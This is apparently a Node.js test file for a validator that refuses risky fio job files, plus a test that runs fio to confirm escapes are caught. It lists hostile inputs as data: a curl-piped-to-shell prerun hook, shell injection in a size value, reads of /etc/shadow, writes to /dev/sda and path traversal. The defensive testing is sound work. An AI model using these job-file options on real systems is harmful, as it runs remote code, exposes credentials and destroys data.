import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { readFileSync, readdirSync } from 'node:fs';
import { join } from 'node:path';
import { test } from 'node:test';
import { listFiles } from '../../scripts/io/listFiles.js';
import { temporaryFolder } from '../io/temporary.js';
import { jobFileProblems, jobFileRisks } from '../../scripts/record/fio/jobFileRisks.js';

/** What a job file must not do, by the line that does it. @type {[string, RegExp][]} */
const risky = [
  ['exec_prerun=curl -s a.example | sh', /^runs a program$/],
  ['  exec_postrun = touch /tmp/x', /^runs a program$/],
  ['EXEC_PRERUN=true', /^runs a program$/],
  ['filename=/dev/sda', /^chooses what is written to$/],
  ['directory=/home', /^chooses what is written to$/],
  ['filename_format=/etc/$jobname', /^chooses what is written to$/],
  ['ioengine=external:/tmp/engine.so', /^loads or runs other code$/],
  ['ioengine=./engine.so', /^loads or runs other code$/],
  ['ioengine=exec', /^loads or runs other code$/],
  ['ioengine=net', /^loads or runs other code$/],
  ['ioengine=filedelete', /^loads or runs other code$/],
  ["size=$mb_memory'; touch /tmp/x; echo '", /^has fio run a shell$/],
  ['description=${SECRET}', /^takes a value from the environment$/],
  ['include /etc/other.fio', /^reads another job file$/],
  ['read_iolog=/etc/shadow', /^reads another file$/],
  ["buffer_pattern='/etc/shadow'", /^reads another file$/],
  ['mem=mmaphuge:/etc/x', /^reads another file$/],
  ['write_bw_log=../../../home/me/x', /^writes to another place$/],
  ['name=../../home/me/x', /^writes to another place$/],
  ['[../../home/me/x]', /^writes to another place$/],
  [`;${'x'.repeat(8190)}exec_prerun=true`, /^hides options in a long line$/],
  ['; \u0000', /^hides what it says$/],
  ['\u00a0; exec_prerun=true', /^hides what it says$/],
  ['size=4k\r[exec_prerun=true', /^hides what it says$/],
  ['write_iolog=x', /^does what is not known to be harmless$/],
  ['ioscheduler=none', /^does what is not known to be harmless$/],
  ['uid=0', /^does what is not known to be harmless$/],
];

for (const [line, does] of risky) {
  test(`a job file is refused for ${JSON.stringify(line.slice(0, 60))}`, () => {
    const risks = jobFileRisks(`; a comment\n[job]\nrw=read\n${line}\n`);
    assert.equal(risks.length, 1);
    assert.equal(risks[0].line, 4);
    assert.match(risks[0].does, does);
    assert.ok(risks[0].hint);
  });
}

/*
 * Ways to have fio run a program or write elsewhere, from a folder two levels down. What this fio does not do is no proof; what it
 * does, must be refused.
 */
const attacks = [
  'exec_prerun=touch OUTSIDE',
  'exec_postrun=touch OUTSIDE',
  'description=x\\\nexec_prerun=touch OUTSIDE',
  '\u000bexec_prerun=touch OUTSIDE',
  '\u00a0exec_prerun=touch OUTSIDE',
  ...[255, 4095, 8191].map((length) => `;${'x'.repeat(length - 1)}exec_prerun=touch OUTSIDE`),
  ...[4095, 8191].map((length) => `description=${'x'.repeat(length - 12)}exec_prerun=touch OUTSIDE`),
  "size=$mb_memory'; touch OUTSIDE; echo '",
  '[OUTSIDE]\nrw=read\nsize=4k\nioengine=null\nwrite_bw_log',
  'name=OUTSIDE\nwrite_bw_log=',
  'write_bw_log=OUTSIDE',
  'write_bw_log=;\nname=OUTSIDE',
  'filename=OUTSIDE\nioengine=sync\nrw=write',
  'directory=../..\nioengine=sync\nrw=write',
  'include ../../attack.fio',
];
const skip = spawnSync('fio', ['--version']).status !== 0 && 'no fio';

test('what fio itself does outside of its folder is refused', { skip }, (t) => {
  const outside = '../../outside';
  const done = attacks.filter((attack) => {
    const text = `[job]\nrw=read\nsize=4k\nioengine=null\n${attack.replaceAll('OUTSIDE', outside)}\n`;
    const folder = temporaryFolder(t, {
      'in/deep/job.fio': text,
      'attack.fio': `exec_prerun=touch ${outside}\n`,
    });
    const before = readdirSync(folder).length;
    spawnSync('fio', ['job.fio'], { cwd: join(folder, 'in/deep'), timeout: 20_000 });
    const does = readdirSync(folder).length > before;
    assert.ok(!does || jobFileRisks(text).length > 0, `fio does it, unrefused: ${attack.slice(0, 80)}`);
    return does;
  });
  assert.ok(done.length > 7, 'fio does what it is told');
});

test('the job files of this project only read and write the target', () => {
  const root = join(import.meta.dirname, '../..');
  const files = listFiles(root, 'data/methodologies').filter((path) => path.endsWith('.fio'));
  assert.ok(files.length > 5);
  for (const file of files)
    assert.deepEqual(jobFileProblems(readFileSync(join(root, file), 'utf8'), file), []);
});

test('logs of plain names, sections and comments are no risk', () => {
  const text =
    '# exec_prerun=x\n; filename=/dev/sda\n[exec_prerun]\nwrite_bw_log=run1\nverify_pattern=0xdeadbeef\nmem=shm\ngroup_reporting\n';
  assert.deepEqual(jobFileRisks(text), []);
});
